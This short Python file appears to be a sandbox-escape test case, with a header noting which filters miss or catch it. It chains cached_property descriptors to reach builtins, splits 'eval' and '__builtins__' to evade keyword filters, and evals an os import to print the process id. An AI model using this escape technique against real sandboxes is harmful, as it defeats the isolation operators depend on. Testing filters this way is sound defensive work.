# descriptors by name through functools.cached_property | ratio1 misses | strict catches | proves pid
import functools


def kept(of, name):
    reader = functools.cached_property(len)
    reader.attrname = "__" + name + "__"
    return reader.__get__(of)


def run():
    pass


kind = kept(object, "class").__get__(run)
b = kept(kind, "globals").__get__(run)["__buil" + "tins__"]
if not isinstance(b, dict):
    b = kept(kept(object, "class").__get__(b), "dict").__get__(b)
print("escaped", b["ev" + "al"]("__import__('os').getpid()"))
